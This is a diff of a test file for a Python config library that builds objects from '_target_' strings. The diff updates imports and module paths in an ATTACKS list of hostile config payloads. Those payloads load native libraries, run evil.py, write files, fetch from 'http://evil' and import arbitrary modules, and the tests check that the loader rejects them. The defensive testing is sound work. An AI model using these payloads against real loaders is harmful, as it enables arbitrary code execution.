@@ -11,11 +11,12 @@ from d2_config import (
     LazyCall,
     LazyConfig,
     UntrustedTargetError,
+    check_targets,
     instantiate,
     trust_targets,
     trusted_targets,
+    untrusted_modules,
 )
-from d2_config.trusted_targets import check_targets, untrusted_modules
 from d2_engine.cli import main
 from d2_engine.model_zoo import get_config, list_config_files
 from d2_engine.run import load_plan, modules_to_trust
@@ -52,10 +53,10 @@ ATTACKS = [
     "{_target_: torch.classes.load_library, path: MARKER}",
     "{_target_: d2_config.LazyConfig.load, filename: evil.py}",
     "{_target_: d2_config.python_file.run_python_file, path: evil.py}",
-    "{_target_: d2_config.atomic_file.write_atomically, filename: MARKER, content: x}",
+    "{_target_: d2_config.files.atomic_file.write_atomically, filename: MARKER, content: x}",
     "{_target_: d2_config.instantiate, cfg: x}",
     "{_target_: d2_config.trust_targets}",
-    "{_target_: d2_config.remote_files.fetch, path: 'http://evil'}",
+    "{_target_: d2_config.files.remote_files.fetch, path: 'http://evil'}",
     "{_target_: d2_engine.cli.main, argv: [train, evil.py]}",
     "{_target_: d2_engine.launch, main_func: 1, num_gpus_per_machine: 1}",
     "{_target_: d2_engine.run.import_modules, names: [evil]}",
